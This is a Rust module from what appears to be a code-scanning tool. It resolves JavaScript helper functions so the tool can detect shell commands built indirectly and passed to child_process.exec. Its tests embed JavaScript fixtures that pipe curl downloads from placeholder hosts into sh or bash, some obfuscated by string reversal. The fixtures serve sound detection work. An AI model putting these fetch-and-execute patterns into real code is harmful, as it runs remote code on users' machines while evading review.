//! A call to a module's own helper stands for what the helper returns, in JavaScript as in Python (see
//! `python_returns.rs`): `exec(fetchCommand())` where `function fetchCommand() { return ['curl', '-fsSL',
//! url(), '|', 'sh'].join(' '); }` runs that command line.
//!
//! Only the plainest helpers are followed: a top-level `function name(a, b) { … }` or `const name = (s) =>
//! …` whose parameters are plain names, defined once and never reassigned, whose body is straight-line
//! code (`const`/`let`/`var` declarations of plain names, then `return <expression>`) or an arrow's
//! expression. The parameters are bound to the call's arguments as the evaluator reads them (unknown when
//! it cannot, or when not passed): `flip(s)` returning `s.split('').reverse().join('')`. Anything else
//! (defaults, destructuring, rest parameters, branches) leaves the call unknown. Helpers calling helpers nest to [`MAX_HELPER_DEPTH`]; every expression still
//! takes a step of the segment's budget.

use super::values::Value;
use super::Walker;
use crate::fields::FieldChild;
use std::collections::HashMap;
use tree_sitter::Node;

/// Helpers followed inside a helper's return expression (a cycle of helpers stops here).
const MAX_HELPER_DEPTH: usize = 4;
/// Statements of a helper's body read before giving up.
const MAX_HELPER_STATEMENTS: usize = 32;
/// Helpers remembered per segment.
const MAX_HELPERS: usize = 1024;
/// Parameters a helper may take.
const MAX_HELPER_PARAMETERS: usize = 8;
/// Helper bodies walked again at a call with known arguments, per segment.
const MAX_INLINED: usize = 64;

/// The module's parameterless functions by name (the function node); `None` for a name defined or
/// assigned more than once.
#[derive(Default)]
pub(super) struct Helpers<'t> {
    functions: HashMap<String, Option<Node<'t>>>,
    depth: usize,
    /// Bodies walked at calls so far, and whether one is being walked (its nested functions are not
    /// deferred again).
    inlined: usize,
    inlining: bool,
}

impl<'t> Helpers<'t> {
    /// Records `function` (a declaration, arrow or function expression) under `name`.
    pub(super) fn define(&mut self, name: &str, function: Node<'t>) {
        if let Some(seen) = self.functions.get_mut(name) {
            *seen = None;
            return;
        }
        if self.functions.len() >= MAX_HELPERS {
            return;
        }
        self.functions.insert(
            name.to_string(),
            (plain_parameters(function).is_some() && is_top_level(function)).then_some(function),
        );
    }

    /// Whether a helper's body is being walked at a call.
    pub(super) fn inlining(&self) -> bool {
        self.inlining
    }

    /// Whether a call of `name` is a helper's return value.
    pub(super) fn follows(&self, name: &str) -> bool {
        self.functions.get(name).is_some_and(Option::is_some)
    }

    /// `name` was assigned: a call through it is no longer the helper.
    pub(super) fn forget(&mut self, name: &str) {
        if let Some(seen) = self.functions.get_mut(name) {
            *seen = None;
        }
    }
}

/// A function's parameters when each is a plain name (`(a, b)`, or an arrow's bare `s`).
fn plain_parameters(function: Node) -> Option<Vec<Node>> {
    if let Some(single) = function.field_child("parameter") {
        return (single.kind() == "identifier").then(|| vec![single]);
    }
    let parameters = function.field_child("parameters")?;
    let mut cursor = parameters.walk();
    let list: Vec<Node> = parameters
        .named_children(&mut cursor)
        .filter(|p| p.kind() != "comment")
        .collect();
    let plain = list.len() <= MAX_HELPER_PARAMETERS
        && list.iter().all(|p| {
            p.kind() == "identifier"
                || (p.kind() == "required_parameter"
                    && p.field_child("pattern")
                        .is_some_and(|n| n.kind() == "identifier")
                    && p.field_child("value").is_none())
        });
    plain.then_some(list)
}

/// Whether a function is declared at the top of the module (not a method or a nested closure).
fn is_top_level(function: Node) -> bool {
    let mut at = function.parent();
    while let Some(parent) = at {
        match parent.kind() {
            "program" => return true,
            "statement_block" | "class_body" | "arguments" | "object" => return false,
            _ => at = parent.parent(),
        }
    }
    false
}

impl<'t> Walker<'t, '_> {
    /// What calling `function` with `arguments` returns, when it names a plain helper of the module.
    pub(super) fn helper_return(
        &mut self,
        function: Node<'t>,
        arguments: Node<'t>,
        depth: usize,
    ) -> Option<Value> {
        if function.kind() != "identifier" {
            return None;
        }
        let name = self.src(function);
        if self.env.get(name).is_some() || self.helpers.depth >= MAX_HELPER_DEPTH {
            return None;
        }
        let helper = (*self.helpers.functions.get(name)?)?;
        let body = helper.field_child("body")?;
        let parameters = plain_parameters(helper)?;
        let mut cursor = arguments.walk();
        let passed: Vec<Node<'t>> = arguments
            .named_children(&mut cursor)
            .filter(|a| a.kind() != "comment")
            .collect();
        if passed.len() > parameters.len() || passed.iter().any(|a| a.kind() == "spread_element") {
            return None;
        }
        // Arguments are read where the call is, before the helper's own scope hides the caller's.
        let values: Vec<Option<Value>> = passed.iter().map(|a| self.eval(*a, depth + 1)).collect();
        self.helpers.depth += 1;
        let saved = self.env.module_only();
        self.bind_parameters(&parameters, &values);
        let value = if body.kind() == "statement_block" {
            self.straight_line_return(body, depth)
        } else {
            // `() => expression`
            self.eval(body, depth + 1)
        };
        self.env.restore(saved);
        self.helpers.depth -= 1;
        value
    }

    /// A helper called with arguments the evaluator knows (`run('curl … | sh')` where `function run(c)
    /// { require('child_process').exec(c) }`) has its body walked again with its parameters bound to
    /// them, so a sink inside it is rendered with what this call passes. Any body shape is walked; the
    /// walk takes the segment's steps, and [`MAX_INLINED`] bodies are walked per segment.
    pub(super) fn inline_helper(&mut self, call: Node<'t>) {
        let (Some(function), Some(arguments)) =
            (call.field_child("function"), call.field_child("arguments"))
        else {
            return;
        };
        if function.kind() != "identifier"
            || self.helpers.inlined >= MAX_INLINED
            || self.helpers.depth >= MAX_HELPER_DEPTH
        {
            return;
        }
        let name = self.src(function);
        if self.env.get(name).is_some() {
            return;
        }
        let Some(Some(helper)) = self.helpers.functions.get(name).copied() else {
            return;
        };
        let (Some(body), Some(parameters)) = (helper.field_child("body"), plain_parameters(helper))
        else {
            return;
        };
        let mut cursor = arguments.walk();
        let passed: Vec<Node<'t>> = arguments
            .named_children(&mut cursor)
            .filter(|a| a.kind() != "comment")
            .collect();
        if passed.is_empty()
            || passed.len() > parameters.len()
            || passed.iter().any(|a| a.kind() == "spread_element")
        {
            return;
        }
        let values: Vec<Option<Value>> = passed.iter().map(|a| self.eval(*a, 0)).collect();
        if !values.iter().flatten().any(Value::is_data) {
            return;
        }
        self.helpers.inlined += 1;
        self.helpers.depth += 1;
        let was_inlining = std::mem::replace(&mut self.helpers.inlining, true);
        let saved = self.env.module_only();
        self.bind_parameters(&parameters, &values);
        self.walk(body, 0);
        self.env.restore(saved);
        self.helpers.inlining = was_inlining;
        self.helpers.depth -= 1;
    }

    /// A new scope in which each parameter (`c`, or `c = default`) holds what the call passed, or
    /// nothing known when the call passed fewer arguments.
    fn bind_parameters(&mut self, parameters: &[Node<'t>], values: &[Option<Value>]) {
        self.env.push();
        for (i, parameter) in parameters.iter().enumerate() {
            let parameter = parameter.field_child("pattern").unwrap_or(*parameter);
            let name = self.src(parameter);
            self.env.set(name, values.get(i).cloned().flatten());
        }
    }

    fn straight_line_return(&mut self, body: Node<'t>, depth: usize) -> Option<Value> {
        let mut cursor = body.walk();
        let statements: Vec<Node<'t>> = body.named_children(&mut cursor).collect();
        for statement in statements.into_iter().take(MAX_HELPER_STATEMENTS) {
            match statement.kind() {
                "comment" | "empty_statement" => {}
                "return_statement" => return self.eval(statement.named_child(0)?, depth + 1),
                "lexical_declaration" | "variable_declaration" => {
                    let mut cursor = statement.walk();
                    let declarators: Vec<Node<'t>> =
                        statement.named_children(&mut cursor).collect();
                    for declarator in declarators {
                        let name = declarator.field_child("name")?;
                        if name.kind() != "identifier" {
                            return None;
                        }
                        let value = declarator
                            .field_child("value")
                            .and_then(|v| self.eval(v, depth + 1));
                        let name = self.src(name);
                        self.env.set(name, value);
                    }
                }
                _ => return None,
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    // The evaluator's shared test helper: parse, evaluate, the renditions' code.
    use crate::native::evaluate::tests::javascript;

    #[test]
    fn a_command_returned_by_helpers_is_read_at_the_call() {
        let found = javascript(concat!(
            "const { exec } = require('child_process');\n",
            "const HOST = 'https://t.example.invalid';\n",
            "function bootUrl() { return HOST + '/boot.sh'; }\n",
            "const command = () => ['curl', '-fsSL', bootUrl(), '|', 'sh'].join(' ');\n",
            "function go() { exec(command(), () => {}); }\n",
            "go();\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r.contains("\"curl -fsSL https://t.example.invalid/boot.sh | sh\"")),
            "{found:?}"
        );
    }

    #[test]
    fn a_helper_with_parameters_returns_what_its_arguments_make() {
        let found = javascript(concat!(
            "const flip = (s) => s.split('').reverse().join('');\n",
            "function line(url, tail) { const head = 'curl -s '; return head + url + tail; }\n",
            "require('child_process')[flip('cexe')](line(flip('hs.i/0.311.0.302//:ptth'), ' | sh'));\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r.contains("exec(\"curl -s http://203.0.113.0/i.sh | sh\")")),
            "{found:?}"
        );
    }

    #[test]
    fn a_sink_inside_a_helper_reads_what_each_call_passes() {
        let found = javascript(concat!(
            "function run(c) {\n",
            "  if (c) { require('child_process').exec(c, { windowsHide: true }); }\n",
            "}\n",
            "const target = ['http:', '', '198.51.100.23', 'c.sh'].join('/');\n",
            "run('curl -s ' + target + ' | bash');\n",
            "run(process.argv[2]);\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r.contains("exec(\"curl -s http://198.51.100.23/c.sh | bash\"")),
            "{found:?}"
        );
    }

    #[test]
    fn helpers_with_parameters_branches_nesting_or_reassignment_stay_unknown() {
        for text in [
            "const cp = require('child_process');\nfunction cmd(x) { return 'curl ' + x + ' | sh'; }\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nfunction cmd(x = 'a') { return 'curl ' + x + ' | sh'; }\ncp.exec(cmd('https://a.invalid'));\n",
            "const cp = require('child_process');\nfunction cmd(...x) { return 'curl ' + x + ' | sh'; }\ncp.exec(cmd('https://a.invalid'));\n",
            "const cp = require('child_process');\nfunction cmd() { if (a) { return 'curl -s https://a.invalid | sh'; } return 'ls'; }\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nlet cmd = () => 'curl -s https://a.invalid | sh';\ncmd = load();\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nclass A { cmd() { return 'curl -s https://a.invalid | sh'; } }\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nfunction a() { return b() + 'x'; }\nfunction b() { return a() + 'y'; }\ncp.exec(a());\n",
        ] {
            let found = javascript(text);
            assert!(!found.iter().any(|r| r.contains("curl")), "{text}: {found:?}");
        }
    }
}
